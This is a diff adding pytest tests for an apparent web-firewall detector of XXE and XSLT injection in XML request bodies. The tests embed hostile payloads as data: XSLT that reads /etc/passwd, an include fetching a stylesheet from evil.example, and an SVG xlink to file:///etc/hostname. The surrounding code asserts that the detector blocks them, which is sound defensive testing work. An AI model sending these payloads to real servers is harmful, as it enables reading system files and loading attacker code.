@@ -77,3 +77,45 @@ def test_plain_doctype_is_four_points_in_a_body_two_at_pl2_elsewhere() -> None:
 
 def test_no_trigger_no_work() -> None:
     assert DETECTOR.detect(Value("<order><id>1</id></order>"), "body", 3) == []
+
+
+def _xml_request(body: bytes) -> bool:
+    """Whether a POST with this ``application/xml`` body is blocked by the XXE detector alone."""
+    from sealgate.detectors.engine import DetectionEngine
+    from sealgate.pipeline.exchange import Exchange
+
+    exchange = Exchange(method="POST", path="/t", raw_path=b"/t", body=body,
+                        headers=[("host", "localhost"), ("content-type", "application/xml")])
+    return DetectionEngine([DETECTOR], paranoia=1).assess(exchange).blocked
+
+
+_STYLESHEET = (b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
+               b'<xsl:template match="/">%s</xsl:template></xsl:stylesheet>')
+
+
+@pytest.mark.parametrize(
+    "inner",
+    [
+        b"<xsl:copy-of select=\"document('/etc/passwd')\"/>",
+        b"<xsl:value-of select=\"unparsed-text('/etc/passwd')\"/>",
+        b"<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
+        b'<xsl:include href="http://evil.example/x.xsl"/>',
+    ],
+)
+def test_stylesheet_in_a_parsed_xml_body(inner: bytes) -> None:
+    # A well-formed XSLT body is parsed into pieces with expanded namespaces: no "xsl:" left.
+    assert _xml_request(_STYLESHEET % inner)
+
+
+def test_copying_stylesheet_and_plain_svg_bodies_pass() -> None:
+    assert not _xml_request(_STYLESHEET % b'<xsl:value-of select="concat(a, b)"/><xsl:copy-of select="."/>')
+    svg = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
+           b'<image xlink:href="https://example.com/a.png"/><use xlink:href="#icon"/></svg>')
+    assert not _xml_request(svg)
+
+
+def test_svg_body_with_a_local_xlink_reference() -> None:
+    svg = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
+           b'<image xlink:href="file:///etc/hostname"/></svg>')
+    assert _xml_request(svg)
+    assert _rules(svg.decode(), "body.$.avatar") == ["xxe-xlink"]
